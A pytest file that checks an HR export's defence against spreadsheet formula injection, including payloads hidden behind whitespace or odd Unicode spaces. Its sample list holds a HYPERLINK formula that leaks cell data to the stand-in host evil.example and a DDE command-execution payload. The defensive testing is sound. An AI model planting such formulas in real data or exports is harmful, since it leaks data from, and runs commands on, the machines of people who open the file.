"""Issue 12, point 10: a formula hidden behind whitespace or a line break is neutralised too."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.spreadsheets import neutralise
from organisation.models import User
from tests.reports import reports_data
from tests.reports.reports_data import client_for

org = reports_data.org

# What an attacker puts in a field that ends up in an HR export (name, reason, workplace).
HIDDEN_FORMULAS = [
    ' =HYPERLINK("http://evil.example/?"&A1,"Klikni")',
    "\n=cmd|' /C calc'!A0",
    "\r\n+1+1",
    "\t-2+3",
    "   @SUM(A1:A9)",
    "\u00a0=1+1",  # a no-break space, which str.lstrip() and Calc both skip
    "\u3000＝1+1",  # an ideographic space before a full-width equals sign
]


@pytest.mark.parametrize("text", HIDDEN_FORMULAS)
def test_whitespace_before_a_trigger_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["  Novák", "\nPoznámka", "e-mail: a@b.cz", "1-2", ""])
def test_harmless_text_with_whitespace_is_kept(text):
    assert neutralise(text) == text


def _cells_csv(response) -> list[str]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]


def _cells_xlsx(response) -> list[str]:
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.django_db
def test_hr_people_export_neutralises_hidden_formulas_and_changes_nothing(client, org):
    victim = org.employees[0]
    victim.first_name, victim.last_name = HIDDEN_FORMULAS[1], HIDDEN_FORMULAS[0]
    victim.save(update_fields=["first_name", "last_name"])
    before = list(User.objects.order_by("pk").values_list("pk", "first_name", "last_name"))

    c = client_for(client, org.hr)
    for fmt, read in (("csv", _cells_csv), ("xlsx", _cells_xlsx)):
        response = c.get(f"/reports/people/export.{fmt}")
        assert response.status_code == 200
        cells = read(response)
        # The attacker's name is there, quoted, so Excel and Calc show it as text.
        assert any(cell.startswith("'") and "HYPERLINK" in cell for cell in cells), fmt
        for cell in cells:
            assert cell.startswith("'") or not cell.lstrip().startswith(("=", "+", "-", "@")), (
                fmt,
                cell,
            )

    # An export reads only: the names are stored exactly as they were entered.
    assert list(User.objects.order_by("pk").values_list("pk", "first_name", "last_name")) == before
